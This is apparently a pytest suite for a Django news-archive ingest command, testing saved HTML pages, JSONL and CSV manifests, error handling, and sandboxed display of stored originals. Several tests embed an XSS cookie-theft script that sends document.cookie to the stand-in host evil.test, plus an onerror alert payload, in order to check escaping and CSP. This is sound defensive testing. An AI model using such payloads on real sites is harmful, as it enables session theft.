"""`manage.py ingest` of saved HTML pages and of manifests (JSON Lines, CSV), and bad pages.

saved_pages/gleaner-crash.html is a real saved page (from shared/real-pages: jamaica.gleaner.com, 42
script tags, menus, footers) kept as it was saved.
"""

import csv
import hashlib
import json
import shutil
from pathlib import Path

import pytest

from archive.models import Article, Source
from tests.helpers import run_command

pytestmark = pytest.mark.django_db

PAGES = Path(__file__).resolve().parent / "saved_pages"
GLEANER = PAGES / "gleaner-crash.html"
CANONICAL = ("https://jamaica-gleaner.com/article/news/20220426/"
             "update-deceased-clarendon-crash-victims-identified")
ARTICLE_WORDS = "The police have now released the identities of the two people killed"

PROSE = " ".join(
    f"Sentence number {n} of the article says something plain about the harbour and the town."
    for n in range(12)
)


def page(title: str = "Harbour reopens", body: str = PROSE, head: str = "", tail: str = "") -> str:
    return (f"<!doctype html><html><head><meta charset=\"utf-8\"><title>{title}</title>{head}"
            f"</head><body><nav><a href=\"/\">Home</a> <a href=\"/news\">News</a></nav>"
            f"<article><h1>{title}</h1><p>{body}</p><p>{body}</p></article>{tail}"
            f"</body></html>")


def write(folder: Path, name: str, content: str | bytes) -> Path:
    path = folder / name
    path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
    return path


def failures(run) -> list[str]:
    return [line for line in run.stderr.splitlines() if line.startswith("FAILED")]


# --- saved pages ------------------------------------------------------------------------------

def test_a_saved_page_keeps_its_bytes_and_gives_the_article(tmp_path):
    shutil.copy(GLEANER, tmp_path / "gleaner.html")
    run = run_command("ingest", str(tmp_path))  # a folder: .html files are taken
    assert run.ok, run.stderr
    article = Article.objects.get()
    raw = GLEANER.read_bytes()
    assert bytes(article.raw) == raw
    assert article.raw_sha256 == hashlib.sha256(raw).hexdigest()
    assert article.raw_format == "html"
    assert article.file_name == "gleaner.html"
    assert article.title == "Update | Deceased Clarendon crash victims identified"
    assert str(article.published) == "2022-04-26"
    assert article.url == CANONICAL
    assert ARTICLE_WORDS in article.body
    assert "Toyota Starlet" in article.body
    for furniture in ("Print Archives", "View the discussion thread", "function(", "<script"):
        assert furniture not in article.body
    assert "extracted from HTML by trafilatura" in article.parse_notes
    # The same bytes again change nothing.
    again = run_command("ingest", str(tmp_path), verbosity=2)
    assert again.ok and "1 unchanged" in again.stdout


def test_the_canonical_address_names_a_known_outlet(tmp_path):
    Source.objects.create(name="The Gleaner", slug="gleaner", domain="jamaica-gleaner.com")
    shutil.copy(GLEANER, tmp_path / "gleaner.htm")
    run = run_command("ingest", str(tmp_path / "gleaner.htm"))
    assert run.ok, run.stderr
    assert Article.objects.get().source.slug == "gleaner"


def test_a_sidecar_beside_a_page_wins(tmp_path):
    shutil.copy(GLEANER, tmp_path / "gleaner.html")
    write(tmp_path, "gleaner.json", json.dumps(
        {"headline": "Two named after Clarendon crash", "published": "2022-04-27",
         "url": "https://example.org/crash", "byline": "Staff reporter"}))
    assert run_command("ingest", str(tmp_path)).ok
    article = Article.objects.get()
    assert (article.title, str(article.published), article.url, article.byline) == (
        "Two named after Clarendon crash", "2022-04-27", "https://example.org/crash",
        "Staff reporter")


def test_a_page_feeds_the_same_pipeline_as_text(tmp_path):
    """Boilerplate rules and outlet signatures apply to the extracted text as to a text file."""
    Source.objects.create(name="Harbour Times", slug="harbour-times", domain="harbourtimes.test",
                          signatures="Copyright Harbour Times Media")
    body = PROSE + "</p><p>Copyright Harbour Times Media 2024. All rights reserved."
    write(tmp_path, "harbour.html", page(body=body))
    assert run_command("ingest", str(tmp_path)).ok
    article = Article.objects.get()
    assert article.source.slug == "harbour-times"
    assert "All rights reserved" not in article.body
    assert any("Copyright Harbour Times" in b["text"] for b in article.boilerplate)


# --- bad pages: one line each, and the run goes on -------------------------------------------

HOSTILE_SCRIPT = "<script>document.location='https://evil.test/?c='+document.cookie</script>"


def test_scripts_never_reach_the_body_and_the_page_is_stored_verbatim(tmp_path):
    hostile = page(head=HOSTILE_SCRIPT, tail=HOSTILE_SCRIPT + "<img src=x onerror=alert(1)>",
                   body=PROSE + "<script>alert('in the article')</script>")
    write(tmp_path, "hostile.html", hostile)
    run = run_command("ingest", str(tmp_path))
    assert run.ok, run.stderr
    article = Article.objects.get()
    assert "evil.test" not in article.body and "alert" not in article.body
    assert "Sentence number 3" in article.body
    assert bytes(article.raw) == hostile.encode()


@pytest.mark.parametrize("name, content, reason", [
    ("empty-body.html", "<html><head><title>Nothing</title></head><body></body></html>",
     "no article text found in the page"),
    ("image.html", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "not an HTML page: it looks like a PNG"),
    ("plain.htm", "Just a line of text, no markup at all.\n", "not an HTML page"),
    ("nul.html", b"<html><body><p>" + b"\x00" * 10 + b"</p></body></html>", "NUL"),
])
def test_a_bad_page_is_one_line_and_the_next_file_is_ingested(tmp_path, name, content, reason):
    write(tmp_path, name, content)
    write(tmp_path, "zz-good.html", page())
    run = run_command("ingest", str(tmp_path))
    assert run.error is not None  # the run says a file failed, after going through all
    lines = failures(run)
    assert len(lines) == 1 and name in lines[0] and reason in lines[0]
    assert "Traceback" not in run.stderr
    assert list(Article.objects.values_list("file_name", flat=True)) == ["zz-good.html"]


def test_a_20_megabyte_page_is_refused_with_its_size(tmp_path):
    filler = "<div>" + ("<span>menu</span>" * 1000 + "\n") * 1250 + "</div>"
    big = page(tail=filler)
    assert len(big.encode()) > 20_000_000
    write(tmp_path, "huge.html", big)
    write(tmp_path, "small.html", page())
    run = run_command("ingest", str(tmp_path))
    lines = failures(run)
    assert len(lines) == 1 and "huge.html" in lines[0] and "byte limit" in lines[0]
    assert Article.objects.get().file_name == "small.html"


def test_bytes_invalid_in_the_declared_encoding_are_read_not_fatal(tmp_path):
    raw = page(title="Caf\u00e9 closes").encode("utf-8").replace(b"harbour", b"harb\xff\xfeour")
    write(tmp_path, "broken.html", raw)
    run = run_command("ingest", str(tmp_path))
    assert run.ok, run.stderr
    article = Article.objects.get()
    assert bytes(article.raw) == raw  # the bytes as they were, whatever the decoding made of them
    assert "Sentence number 5" in article.body


# --- manifests --------------------------------------------------------------------------------

def test_a_json_lines_manifest_is_many_articles_and_a_bad_row_is_one_line(tmp_path):
    rows = [
        {"url": "https://harbour.test/a", "title": "Harbour reopens after storm",
         "date": "2024-03-01", "outlet": "Harbour Times", "html": page(title="Ignored title")},
        {"text": "Council votes on budget\n\n" + PROSE + "\n", "byline": "A. Writer"},
        "not json at all",
        {"html": page(), "text": "both"},
        {"text": "x", "colour": "red"},
        {"text": "Dated badly\n\n" + PROSE, "date": "2024-13-45"},
        {"html": "<html><body></body></html>"},
    ]
    lines = [row if isinstance(row, str) else json.dumps(row) for row in rows]
    write(tmp_path, "pages.jsonl", "\n".join(lines) + "\n\n")
    run = run_command("ingest", str(tmp_path / "pages.jsonl"))
    reasons = failures(run)
    assert len(reasons) == 5, run.stderr
    for number, words in [(3, "not valid JSON"), (4, "exactly one of text or html"),
                          (5, "unknown fields colour"), (6, "not a date"),
                          (7, "no article text found")]:
        assert any(f"pages.jsonl#{number}" in r and words in r for r in reasons), number
    first = Article.objects.get(file_name="https://harbour.test/a")  # its url is its identity
    assert (first.title, str(first.published), first.source.name, first.raw_format) == (
        "Harbour reopens after storm", "2024-03-01", "Harbour Times", "html")
    assert bytes(first.raw) == rows[0]["html"].encode()
    second = Article.objects.get(file_name="pages.jsonl#2")
    assert (second.title, second.byline, second.raw_format) == (
        "Council votes on budget", "A. Writer", "text")
    # Re-ordered and run again: the row with a url is the same article, unchanged.
    write(tmp_path, "pages.jsonl", json.dumps(rows[0]) + "\n")
    again = run_command("ingest", str(tmp_path / "pages.jsonl"))
    assert again.ok and "1 unchanged" in again.stdout
    assert Article.objects.count() == 2


def test_a_csv_manifest_is_many_articles(tmp_path):
    path = tmp_path / "pages.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, ["url", "title", "date", "outlet", "text", "html"])
        writer.writeheader()
        writer.writerow({"url": "https://harbour.test/big", "title": "", "date": "2024-02-02",
                         "outlet": "", "text": "",
                         "html": GLEANER.read_text(encoding="utf-8")})  # > 128 KB cells too
        writer.writerow({"title": "Ferry timetable changes", "text": PROSE, "html": ""})
        writer.writerow({"title": "Nothing in it", "text": "", "html": ""})
    run = run_command("ingest", str(path))
    reasons = failures(run)
    assert len(reasons) == 1 and "pages.csv#3" in reasons[0] and "exactly one" in reasons[0]
    page_row = Article.objects.get(file_name="https://harbour.test/big")
    assert page_row.raw_format == "html" and ARTICLE_WORDS in page_row.body
    assert str(page_row.published) == "2024-02-02"  # the row's date wins over the page's
    assert page_row.url == "https://harbour.test/big"
    text_row = Article.objects.get(file_name="pages.csv#2")
    assert text_row.title == "Ferry timetable changes"


def test_a_manifest_row_over_the_size_limit_fails_alone(tmp_path):
    rows = [{"text": "Big\n\n" + PROSE * 20}, {"text": "Small one\n\n" + PROSE}]
    write(tmp_path, "m.jsonl", "\n".join(json.dumps(r) for r in rows))
    run = run_command("ingest", str(tmp_path / "m.jsonl"), max_bytes=5000)
    reasons = failures(run)
    assert len(reasons) == 1 and "m.jsonl#1" in reasons[0] and "byte limit" in reasons[0]
    assert Article.objects.get().title == "Small one"


def test_manifests_in_a_folder_are_left_alone_unless_named(tmp_path):
    write(tmp_path, "truth.jsonl", json.dumps({"name": "x", "with": []}) + "\n")
    write(tmp_path, "one.html", page())
    run = run_command("ingest", str(tmp_path))
    assert run.ok, run.stderr
    assert Article.objects.count() == 1


def test_parse_workers_handle_pages_and_rows_as_one_process_does(tmp_path):
    shutil.copy(GLEANER, tmp_path / "gleaner.html")
    write(tmp_path, "harbour.html", page())
    write(tmp_path, "m.jsonl", json.dumps({"html": page(title="Row page")}) + "\n")
    run = run_command("ingest", str(tmp_path), str(tmp_path / "m.jsonl"), workers=2)
    assert run.ok, run.stderr
    titles = set(Article.objects.values_list("title", flat=True))
    assert titles == {"Update | Deceased Clarendon crash victims identified", "Harbour reopens",
                      "Row page"}


def test_saved_pages_are_parsed_on_every_core_by_default_where_text_files_are_not(tmp_path,
                                                                                  monkeypatch):
    """A saved page costs the extractor ~40 times a text file's parse: a folder of pages is
    worth the pool of parse processes long before 1,000 files, a folder of text files is not."""
    from archive.ingestion import parallel
    from archive.ingestion import run as run_module

    pools = []

    class Spy(parallel.ParsePool):
        def __init__(self, *args, workers, **kwargs):
            pools.append(workers)
            super().__init__(*args, workers=workers, **kwargs)

    monkeypatch.setattr(run_module, "ParsePool", Spy)
    monkeypatch.setattr(parallel, "default_workers", lambda: 2)
    monkeypatch.setattr(parallel, "PARALLEL_MIN_BYTES", 3 * GLEANER.stat().st_size)
    texts, pages = tmp_path / "texts", tmp_path / "pages"
    texts.mkdir()
    pages.mkdir()
    for n in range(3):
        write(texts, f"{n}.txt", f"Text article {n}\n\n{PROSE}\n")
        write(pages, f"{n}.html", GLEANER.read_bytes() + f"<!-- {n} -->".encode())
    assert run_command("ingest", str(texts)).ok
    assert pools == []
    assert run_command("ingest", str(pages)).ok
    assert pools == [2]
    assert Article.objects.filter(raw_format="html").count() == 3


# --- showing a saved page ---------------------------------------------------------------------

def test_the_original_of_a_page_is_escaped_source_and_a_sandboxed_frame(client, tmp_path):
    hostile = page(head=HOSTILE_SCRIPT)
    write(tmp_path, "hostile.html", hostile)
    assert run_command("ingest", str(tmp_path)).ok
    article = Article.objects.get()
    detail = client.get(article.get_absolute_url())
    assert "The saved page and its HTML source" in detail.content.decode()
    original_url = article.get_absolute_url() + "original/"
    html = client.get(original_url).content.decode()
    assert HOSTILE_SCRIPT not in html  # never live in our page
    assert "&lt;script&gt;document.location=&#x27;https://evil.test" in html
    frame = '<iframe class="saved-page" sandbox="" referrerpolicy="no-referrer"'
    assert frame in html and 'src="' + original_url + 'page/"' in html
    saved = client.get(original_url + "page/")
    assert saved.status_code == 200 and saved.content == hostile.encode()
    policy = saved["Content-Security-Policy"]
    assert policy.startswith("sandbox;") and "default-src 'none'" in policy
    assert "script-src" not in policy  # nothing allows a script
    assert saved["X-Frame-Options"] == "SAMEORIGIN"
    assert saved["X-Content-Type-Options"] == "nosniff"


def test_no_saved_page_for_text_or_hidden_articles(client, tmp_path):
    write(tmp_path, "page.html", page())
    write(tmp_path, "text.txt", "A text article\n\n" + PROSE + "\n")
    assert run_command("ingest", str(tmp_path)).ok
    text = Article.objects.get(raw_format="text")
    assert client.get(text.get_absolute_url() + "original/page/").status_code == 404
    assert "<iframe" not in client.get(text.get_absolute_url() + "original/").content.decode()
    html = Article.objects.get(raw_format="html")
    Article.objects.filter(pk=html.pk).update(status=Article.Status.HIDDEN)
    assert client.get(html.get_absolute_url() + "original/page/").status_code == 404
    assert client.get(html.get_absolute_url() + "original/").status_code == 404


def test_reader_comments_the_extractor_separates_are_stored_apart(tmp_path):
    comments = ('<div class="comments"><h3>Comments</h3>'
                '<div class="comment"><p>First! Great reporting on the harbour.</p></div>'
                '<div class="comment"><p>I was there and it was cold.</p></div></div>')
    write(tmp_path, "with-comments.html", page(tail=comments))
    run = run_command("ingest", str(tmp_path))
    assert run.ok, run.stderr
    article = Article.objects.get()
    assert "I was there and it was cold" not in article.body
    block = article.comment_blocks.get()
    assert block.position >= 1
    assert any("I was there and it was cold" in c for c in block.comments)


def test_a_dry_run_of_pages_and_rows_writes_nothing(tmp_path):
    write(tmp_path, "one.html", page())
    write(tmp_path, "m.jsonl", json.dumps({"text": "Row title\n\n" + PROSE}) + "\n")
    run = run_command("ingest", str(tmp_path), str(tmp_path / "m.jsonl"), dry_run=True,
                      verbosity=2)
    assert run.ok, run.stderr
    assert "Dry run, nothing written: 2 files: 2 created" in run.stdout
    assert "created m.jsonl#1" in run.stdout and "Row title" in run.stdout
    assert not Article.objects.exists()
